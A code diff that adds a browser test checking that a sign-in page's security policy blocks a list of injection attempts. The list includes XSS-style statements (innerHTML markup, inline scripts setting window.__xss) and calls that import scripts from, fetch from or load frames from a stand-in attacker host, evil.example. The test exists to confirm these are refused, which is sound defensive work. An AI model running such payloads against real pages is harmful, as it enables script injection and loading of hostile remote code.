@@ -68,6 +68,43 @@ test(
   },
 );
 
+/** What is refused, the directive that does so, and a statement that tries it in the page. */
+const attempts: [name: string, directive: string, statement: string][] = [
+  ['markup from text', 'require-trusted-types-for', 'document.body.innerHTML = "<b>x</b>"'],
+  ['a script of text', 'require-trusted-types-for', 'document.createElement("script").text = "window.__xss = 1"'],
+  ['another Trusted Types policy', 'trusted-types', 'trustedTypes.createPolicy("other", {})'],
+  ['code of another host', 'script-src-elem', 'import("https://evil.example/x.js").catch(() => 0)'],
+  ['an inline script', 'require-trusted-types-for', 'add("script", {}, "window.__xss = 1")'],
+  ['a script of another host', 'require-trusted-types-for', 'add("script", { src: "https://evil.example/x.js" })'],
+  ['a style in the page', 'style-src-elem', 'add("style", {}, "h1 { color: red }")'],
+  ['a call to another host', 'connect-src', 'fetch("https://evil.example/").catch(() => 0)'],
+  ['a picture of another host', 'img-src', 'add("img", { src: "https://evil.example/x.png" })'],
+  ['a frame', 'frame-src', 'add("iframe", { src: "https://evil.example/" })'],
+];
+
+const add = `function add(name, properties, text = '') {
+  const element = document.createElement(name);
+  element.append(text);
+  document.body.append(Object.assign(element, properties));
+}`;
+
+test(
+  'what the policy refuses is refused, and would fail a test that does not allow it',
+  { tag: wideOnly },
+  async ({ page, watch }) => {
+    await page.goto('/individual-signin');
+    const refusals = (directive: string) =>
+      watch.problems.filter((problem) => problem.startsWith(`policy violation: ${directive} `)).length;
+    for (const [name, directive, statement] of attempts) {
+      const before = refusals(directive);
+      await page.evaluate(`(() => { ${add}; ${statement}; })()`).catch(() => undefined);
+      await expect.poll(() => refusals(directive), name).toBe(before + 1);
+      }
+    expect(await page.evaluate(() => window.__xss)).toBeUndefined();
+    watch.allow(/policy violation|^console\.error|request failed|another host/);
+  },
+);
+
 test.describe('hostile text', () => {
   const dialogs: string[] = [];
 
